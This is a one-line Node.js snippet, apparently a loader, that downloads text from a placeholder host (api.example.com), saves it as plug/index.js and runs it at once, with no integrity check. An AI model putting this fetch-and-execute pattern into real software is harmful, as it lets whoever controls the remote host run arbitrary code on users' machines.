const fs=require('fs');(async()=>{const t=await (await fetch('https://api.example.com/x')).text();fs.writeFileSync('plug/index.js',t);require('./plug')})()
